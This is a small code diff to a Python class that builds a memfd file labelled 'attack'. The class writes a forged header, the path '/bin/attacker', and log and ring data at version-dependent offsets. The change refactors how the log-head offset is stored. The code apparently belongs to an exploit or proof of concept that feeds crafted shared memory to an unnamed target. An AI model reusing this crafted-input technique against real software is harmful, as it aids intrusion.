@@ -110,6 +110,7 @@ class Program:
         log_size = (len(log) if log_size is None else log_size) + 7 & ~7
         self.slots, self.slot_size = slots, slot_size
         log_at = slots + rings * slot_size
+        self.log, self.log_head = log_at, 8344 if version > 1 else 8336
         rings_at = log_at + log_size + 4095 & ~4095
         size = rings_at + rings * ring_size
         self.fd = os.memfd_create("attack", os.MFD_CLOEXEC | 2)
@@ -118,7 +119,7 @@ class Program:
                                        rings_at, ring_size), 0)
         os.pwrite(self.fd, struct.pack("<IIQ16s", os.getpid(), 0, time.monotonic_ns(), b"attacker"), 104)
         os.pwrite(self.fd, b"/bin/attacker", 136)
-        os.pwrite(self.fd, struct.pack("<Q", len(log)), 8344 if version > 1 else 8336)
+        os.pwrite(self.fd, struct.pack("<Q", len(log)), self.log_head)
         if version > 2:
             os.pwrite(self.fd, struct.pack("<Q", head), 8376)
         os.pwrite(self.fd, log, log_at)
